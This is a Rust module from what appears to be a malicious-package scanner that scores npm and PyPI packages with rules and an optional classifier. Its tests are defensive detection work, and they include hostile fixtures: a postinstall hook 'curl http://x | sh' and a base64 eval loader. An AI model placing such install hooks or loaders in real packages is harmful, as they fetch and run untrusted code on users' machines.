use crate::features;
use crate::shared::archive::{self, ArchiveFormat};
use crate::shared::classifier::ModelArtifact;
use crate::shared::config::{Config, ExplainConfig, LimitsConfig, ThresholdConfig};
use crate::shared::corpus;
use crate::shared::error::Result;
use crate::shared::explain;
use crate::shared::manifest;
use crate::shared::models::{
    Ecosystem, PackageContext, PackageMetadata, PackageRecord, SandboxTelemetry, ScanDepth,
};
use crate::shared::rules::{self, RuleContext};
use crate::shared::schema::{FeatureVector, RawFeatures, schema};
use crate::shared::scoring::{self, MlOutcome, Thresholds, Verdict};
use rayon::prelude::*;
use std::collections::HashSet;
use std::path::Path;
use std::sync::Arc;
use tracing::{debug, info, trace, warn};

/// Scoring knobs the service needs beyond the artifact.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct ServiceConfig {
    pub thresholds: ThresholdConfig,
    pub explain: ExplainConfig,
}

impl From<&Config> for ServiceConfig {
    fn from(config: &Config) -> Self {
        Self {
            thresholds: config.thresholds.clone(),
            explain: config.explain.clone(),
        }
    }
}

/// Turns package contexts into verdicts.
///
/// Built once per process; the artifact is shared read-only across threads.
#[derive(Debug, Clone)]
pub struct ScoringService {
    artifact: Option<Arc<ModelArtifact>>,
    thresholds: Thresholds,
    explain: ExplainConfig,
}

impl ScoringService {
    /// `None` for the artifact means rule-only scoring.
    pub fn new(artifact: Option<ModelArtifact>, config: ServiceConfig) -> Result<Self> {
        let thresholds = config.thresholds.validated()?;
        if let Some(ref artifact) = artifact {
            artifact.validate()?;
        }
        Ok(Self {
            artifact: artifact.map(Arc::new),
            thresholds,
            explain: config.explain,
        })
    }

    /// Build from configuration, loading the artifact if one is configured.
    ///
    /// A missing or corrupt artifact degrades to rule-only scoring; a schema
    /// mismatch or invalid thresholds are returned as errors.
    pub fn from_config(config: &Config) -> Result<Self> {
        let artifact = match config.model.path {
            None => {
                info!("no model artifact configured, scoring with rules only");
                None
            }
            Some(ref path) if !path.exists() => {
                warn!(path = %path.display(), "model artifact not found, scoring with rules only");
                None
            }
            Some(ref path) => match ModelArtifact::load(path) {
                Ok(artifact) => Some(artifact),
                Err(e) if e.is_fatal_config() => return Err(e),
                Err(e) => {
                    warn!(path = %path.display(), "unusable model artifact, scoring with rules only: {e}");
                    None
                }
            },
        };
        Self::new(artifact, ServiceConfig::from(config))
    }

    pub fn has_model(&self) -> bool {
        self.artifact.is_some()
    }

    /// Run every feature and project the result onto the schema.
    pub fn extract(&self, ctx: &PackageContext) -> FeatureVector {
        schema().project(&run_analysis(ctx), ctx.record.ecosystem)
    }

    /// Score one package. Always yields a verdict.
    pub fn score(&self, ctx: &PackageContext) -> Verdict {
        let vector = self.extract(ctx);

        let outcome = match self.artifact.as_deref() {
            None => MlOutcome::Unavailable,
            Some(artifact) => match artifact.predict(&vector) {
                Ok(p) => MlOutcome::Scored(p),
                Err(e) => {
                    warn!(package = %ctx.record.name, "classifier rejected input: {e}");
                    MlOutcome::Rejected(e.to_string())
                }
            },
        };

        let rule_ctx = RuleContext {
            metadata_known: registry_metadata_known(ctx),
        };
        let matches = rules::evaluate(&vector, rule_ctx);

        // Importance ranking only makes sense when the model actually scored.
        let ranking_artifact = match outcome {
            MlOutcome::Scored(_) => self.artifact.as_deref(),
            _ => None,
        };
        let (strategy, reasons) = explain::explain(
            &vector,
            ranking_artifact,
            self.explain.ranked_top_k,
            self.explain.priority_top_k,
        );

        let verdict =
            scoring::compute_verdict(&ctx.record, outcome, matches, reasons, &self.thresholds);
        debug!(
            package = %verdict.package_name,
            label = %verdict.label,
            risk = verdict.risk_score,
            ?strategy,
            "scored package"
        );
        verdict
    }

    /// Score many packages in parallel. Output order matches input order.
    pub fn score_batch(&self, contexts: &[PackageContext]) -> Vec<Verdict> {
        contexts.par_iter().map(|ctx| self.score(ctx)).collect()
    }
}

/// Run all registered features against the context.
pub fn run_analysis(ctx: &PackageContext) -> RawFeatures {
    let mut raw = RawFeatures::new();
    for feature in features::all_features() {
        feature.extract(ctx, &mut raw);
        trace!(feature = feature.name(), "feature done");
    }
    debug!(package = %ctx.record.name, columns = raw.iter().count(), "extracted features");
    raw
}

/// Download or age figures came from a registry, so their absence is not assumed.
fn registry_metadata_known(ctx: &PackageContext) -> bool {
    ctx.metadata
        .as_ref()
        .is_some_and(|m| m.downloads.is_some() || m.age_days.is_some())
}

/// Caller-supplied facts that take precedence over what the tree declares.
#[derive(Debug, Clone, Default)]
pub struct SourceOverrides {
    pub name: Option<String>,
    pub ecosystem: Option<Ecosystem>,
    pub version: Option<String>,
    pub metadata: Option<PackageMetadata>,
    pub telemetry: Option<SandboxTelemetry>,
}

/// Build a context from a source tree on disk.
///
/// Manifest fields fill whatever the overrides leave open; documentation
/// found in the tree is merged into the metadata flags.
pub fn source_context(dir: &Path, overrides: SourceOverrides, limits: &LimitsConfig) -> PackageContext {
    tree_context(dir, overrides, ScanDepth::Source, limits, None)
}

/// A scan input: a packed package when the name says so, otherwise a tree.
pub fn input_context(path: &Path, overrides: SourceOverrides, limits: &LimitsConfig) -> PackageContext {
    match ArchiveFormat::detect(path) {
        Some(format) if path.is_file() => packed_context(path, format, overrides, limits),
        _ => source_context(path, overrides, limits),
    }
}

/// Unpack and scan a `.tgz`, `.tar.gz`, `.zip` or `.whl` package.
///
/// An archive that cannot be opened still yields a context, named after the
/// file and carrying only what the caller supplied.
pub fn packed_context(
    path: &Path,
    format: ArchiveFormat,
    overrides: SourceOverrides,
    limits: &LimitsConfig,
) -> PackageContext {
    let fallback = archive::stem(path);
    match archive::unpack(path, format, limits) {
        Ok(unpacked) => tree_context(
            unpacked.root(),
            overrides,
            ScanDepth::Source,
            limits,
            Some(fallback),
        ),
        Err(e) => {
            warn!(archive = %path.display(), "scanning without source: {e}");
            let ecosystem = overrides.ecosystem.unwrap_or_default();
            let mut record = PackageRecord::new(overrides.name.unwrap_or(fallback), ecosystem)
                .with_depth(ScanDepth::Source);
            if let Some(version) = overrides.version {
                record = record.with_version(version);
            }
            let mut ctx = PackageContext::new(record, "");
            if let Some(metadata) = overrides.metadata {
                ctx = ctx.with_metadata(metadata);
            }
            if let Some(telemetry) = overrides.telemetry {
                ctx = ctx.with_telemetry(telemetry);
            }
            ctx
        }
    }
}

fn tree_context(
    dir: &Path,
    overrides: SourceOverrides,
    depth: ScanDepth,
    limits: &LimitsConfig,
    fallback_name: Option<String>,
) -> PackageContext {
    let manifest = manifest::read_manifest(dir);
    let ecosystem = overrides.ecosystem.unwrap_or(manifest.ecosystem);
    let name = overrides
        .name
        .or(manifest.name)
        .or(fallback_name)
        .or_else(|| dir.file_name().and_then(|n| n.to_str()).map(String::from))
        .unwrap_or_else(|| "local".to_string());

    let corpus = corpus::collect(dir, ecosystem, limits);
    debug!(
        dir = %dir.display(),
        files = corpus.files_read,
        skipped = corpus.files_skipped,
        "collected corpus"
    );

    let mut metadata = overrides.metadata.unwrap_or_default();
    metadata.has_readme |= corpus.docs.readme;
    metadata.has_license |= corpus.docs.license;
    metadata.has_changelog |= corpus.docs.changelog;
    metadata.has_tests |= corpus.docs.tests;
    if metadata.scripts.is_empty() {
        metadata.scripts = manifest.scripts;
    }

    let mut record = PackageRecord::new(name, ecosystem).with_depth(depth);
    if let Some(version) = overrides.version.or(manifest.version) {
        record = record.with_version(version);
    }

    let mut ctx = PackageContext::new(record, corpus.text).with_metadata(metadata);
    if let Some(telemetry) = overrides.telemetry {
        ctx = ctx.with_telemetry(telemetry);
    }
    ctx
}

/// A name-only context: no source, no metadata.
pub fn declared_context(name: &str, ecosystem: Ecosystem, version: Option<&str>) -> PackageContext {
    let mut record = PackageRecord::new(name, ecosystem).with_depth(ScanDepth::Declared);
    if let Some(version) = version {
        record = record.with_version(version);
    }
    PackageContext::new(record, "")
}

/// The project itself, its installed npm and PyPI dependencies, and every
/// declared dependency that is not installed.
///
/// Without a requirements file or virtualenv, third-party Python imports
/// stand in for declared PyPI dependencies.
pub fn project_contexts(dir: &Path, limits: &LimitsConfig) -> Vec<PackageContext> {
    let mut contexts = vec![source_context(dir, SourceOverrides::default(), limits)];

    let mut installed = manifest::installed_packages(dir);
    installed.extend(manifest::installed_pypi_packages(dir));
    let installed_names: HashSet<(Ecosystem, String)> = installed
        .iter()
        .map(|p| (p.ecosystem, installed_key(&p.name, p.ecosystem)))
        .collect();
    let pypi_installed = installed.iter().any(|p| p.ecosystem == Ecosystem::Pypi);

    for package in &installed {
        let overrides = SourceOverrides {
            name: Some(package.name.clone()),
            ecosystem: Some(package.ecosystem),
            version: package.version.clone(),
            ..SourceOverrides::default()
        };
        contexts.push(tree_context(&package.path, overrides, ScanDepth::Installed, limits, None));
    }

    let mut declared = manifest::declared_dependencies(dir);
    if !pypi_installed && !declared.iter().any(|d| d.ecosystem == Ecosystem::Pypi) {
        declared.extend(
            manifest::python_imports(dir, limits.max_files)
                .into_iter()
                .map(|name| manifest::DeclaredDependency {
                    name,
                    ecosystem: Ecosystem::Pypi,
                }),
        );
    }

    let mut declared_count = 0;
    for dep in declared {
        let key = (dep.ecosystem, installed_key(&dep.name, dep.ecosystem));
        if installed_names.contains(&key) {
            continue;
        }
        contexts.push(declared_context(&dep.name, dep.ecosystem, None));
        declared_count += 1;
    }

    info!(
        dir = %dir.display(),
        packages = contexts.len(),
        installed = installed.len(),
        declared = declared_count,
        "collected project packages"
    );
    contexts
}

fn installed_key(name: &str, ecosystem: Ecosystem) -> String {
    match ecosystem {
        Ecosystem::Pypi => manifest::normalize_dist(name),
        _ => name.to_lowercase(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shared::scoring::Label;
    use std::fs;

    fn service() -> ScoringService {
        ScoringService::new(None, ServiceConfig::default()).unwrap()
    }

    #[test]
    fn rejects_inverted_thresholds() {
        let config = ServiceConfig {
            thresholds: ThresholdConfig {
                safe_max: 0.8,
                malicious_min: 0.2,
            },
            ..ServiceConfig::default()
        };
        assert!(ScoringService::new(None, config).is_err());
    }

    #[test]
    fn missing_model_path_degrades() {
        let dir = tempfile::tempdir().unwrap();
        let mut config = Config::default();
        config.model.path = Some(dir.path().join("absent.json"));
        let service = ScoringService::from_config(&config).unwrap();
        assert!(!service.has_model());
    }

    #[test]
    fn corrupt_model_degrades() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("model.json");
        fs::write(&path, "{ not json").unwrap();
        let mut config = Config::default();
        config.model.path = Some(path);
        let service = ScoringService::from_config(&config).unwrap();
        assert!(!service.has_model());
    }

    #[test]
    fn extraction_matches_schema() {
        let ctx = PackageContext::new(PackageRecord::new("x", Ecosystem::Npm), "eval(a)");
        let vector = service().extract(&ctx);
        assert_eq!(vector.len(), schema().len());
        assert_eq!(vector.get("eco_is_npm"), 1.0);
    }

    #[test]
    fn declared_name_only_package() {
        let verdict = service().score(&declared_context("react", Ecosystem::Npm, None));
        assert_eq!(verdict.scan_depth, ScanDepth::Declared);
        assert_eq!(verdict.label, Label::Safe);
        assert!(verdict.matched_rules.is_empty());
    }

    #[test]
    fn batch_preserves_order() {
        let names = ["lodash", "reqeusts", "flask", "expres"];
        let contexts: Vec<_> = names
            .iter()
            .map(|n| declared_context(n, Ecosystem::Other, None))
            .collect();
        let verdicts = service().score_batch(&contexts);
        let got: Vec<_> = verdicts.iter().map(|v| v.package_name.as_str()).collect();
        assert_eq!(got, names);
    }

    #[test]
    fn source_context_reads_manifest_and_docs() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(
            dir.path().join("package.json"),
            r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"curl http://x | sh"}}"#,
        )
        .unwrap();
        fs::write(dir.path().join("README.md"), "# demo").unwrap();
        fs::write(dir.path().join("index.js"), "module.exports = 1;").unwrap();

        let ctx = source_context(dir.path(), SourceOverrides::default(), &LimitsConfig::default());
        assert_eq!(ctx.record.name, "demo");
        assert_eq!(ctx.record.ecosystem, Ecosystem::Npm);
        assert_eq!(ctx.record.version.as_deref(), Some("1.0.0"));
        let meta = ctx.metadata.as_ref().unwrap();
        assert!(meta.has_readme);
        assert!(meta.scripts.contains_key("postinstall"));
        assert!(!registry_metadata_known(&ctx));

        let verdict = service().score(&ctx);
        assert!(verdict.matched_rules.iter().any(|r| r == "INSTALL_SCRIPT_NETWORK"));
        assert!(!verdict.matched_rules.iter().any(|r| r == "LOW_DOWNLOADS"));
    }

    #[test]
    fn project_lists_installed_and_declared() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(
            dir.path().join("package.json"),
            r#"{"name":"app","dependencies":{"left-pad":"1","chalk":"5"}}"#,
        )
        .unwrap();
        fs::create_dir_all(dir.path().join("node_modules/left-pad")).unwrap();
        fs::write(dir.path().join("node_modules/left-pad/index.js"), "module.exports = 1;").unwrap();

        let contexts = project_contexts(dir.path(), &LimitsConfig::default());
        let summary: Vec<_> = contexts
            .iter()
            .map(|c| (c.record.name.as_str(), c.record.scan_depth))
            .collect();
        assert_eq!(
            summary,
            vec![
                ("app", ScanDepth::Source),
                ("left-pad", ScanDepth::Installed),
                ("chalk", ScanDepth::Declared),
            ]
        );
    }

    #[test]
    fn python_project_scans_venv_and_skips_installed_requirements() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join("requirements.txt"), "requests==2.31.0\nflask\n").unwrap();
        fs::write(dir.path().join("main.py"), "import requests\n").unwrap();
        let site = dir.path().join(".venv/lib/python3.12/site-packages");
        fs::create_dir_all(site.join("requests")).unwrap();
        fs::create_dir_all(site.join("requests-2.31.0.dist-info")).unwrap();
        fs::write(site.join("requests/api.py"), "def get(url): pass\n").unwrap();

        let contexts = project_contexts(dir.path(), &LimitsConfig::default());
        let summary: Vec<_> = contexts
            .iter()
            .skip(1)
            .map(|c| (c.record.name.as_str(), c.record.ecosystem, c.record.scan_depth))
            .collect();
        assert_eq!(
            summary,
            vec![
                ("requests", Ecosystem::Pypi, ScanDepth::Installed),
                ("flask", Ecosystem::Pypi, ScanDepth::Declared),
            ]
        );
        assert_eq!(contexts[1].record.version.as_deref(), Some("2.31.0"));
        assert!(contexts[1].corpus.contains("def get"));
        // The venv is scanned on its own, not as part of the project source.
        assert!(!contexts[0].corpus.contains("def get"));
    }

    #[test]
    fn imports_stand_in_for_missing_requirements() {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join("app.py"), "import os\nimport reqeusts\nfrom flask import Flask\n").unwrap();

        let contexts = project_contexts(dir.path(), &LimitsConfig::default());
        let declared: Vec<_> = contexts
            .iter()
            .filter(|c| c.record.scan_depth == ScanDepth::Declared)
            .map(|c| c.record.name.as_str())
            .collect();
        assert_eq!(declared, vec!["flask", "reqeusts"]);

        let verdicts = service().score_batch(&contexts);
        let typo = verdicts.iter().find(|v| v.package_name == "reqeusts").unwrap();
        assert!(typo.matched_rules.iter().any(|r| r == "TYPOSQUATTING"));
    }

    #[test]
    fn packed_npm_tarball_is_scanned_like_a_tree() {
        use flate2::Compression;
        use flate2::write::GzEncoder;

        let dir = tempfile::tempdir().unwrap();
        let tgz = dir.path().join("demo-1.0.0.tgz");
        let encoder = GzEncoder::new(fs::File::create(&tgz).unwrap(), Compression::default());
        let mut builder = tar::Builder::new(encoder);
        for (name, body) in [
            ("package/package.json", r#"{"name":"demo","version":"1.0.0"}"#),
            ("package/index.js", "eval(Buffer.from(p, 'base64').toString());\n"),
        ] {
            let mut header = tar::Header::new_gnu();
            header.set_size(body.len() as u64);
            header.set_mode(0o644);
            header.set_cksum();
            builder.append_data(&mut header, name, body.as_bytes()).unwrap();
        }
        builder.into_inner().unwrap().finish().unwrap();

        let ctx = input_context(&tgz, SourceOverrides::default(), &LimitsConfig::default());
        assert_eq!(ctx.record.name, "demo");
        assert_eq!(ctx.record.ecosystem, Ecosystem::Npm);
        assert_eq!(ctx.record.scan_depth, ScanDepth::Source);
        let verdict = service().score(&ctx);
        assert!(verdict.matched_rules.iter().any(|r| r == "EVAL_EXEC_USAGE"));
    }

    #[test]
    fn corrupt_archive_still_yields_a_verdict() {
        let dir = tempfile::tempdir().unwrap();
        let zip = dir.path().join("broken-2.0.zip");
        fs::write(&zip, "PK but not really").unwrap();

        let overrides = SourceOverrides {
            ecosystem: Some(Ecosystem::Pypi),
            ..SourceOverrides::default()
        };
        let ctx = input_context(&zip, overrides, &LimitsConfig::default());
        assert_eq!(ctx.record.name, "broken-2.0");
        assert!(ctx.corpus.is_empty());
        let verdict = service().score(&ctx);
        assert_eq!(verdict.package_name, "broken-2.0");
    }
}
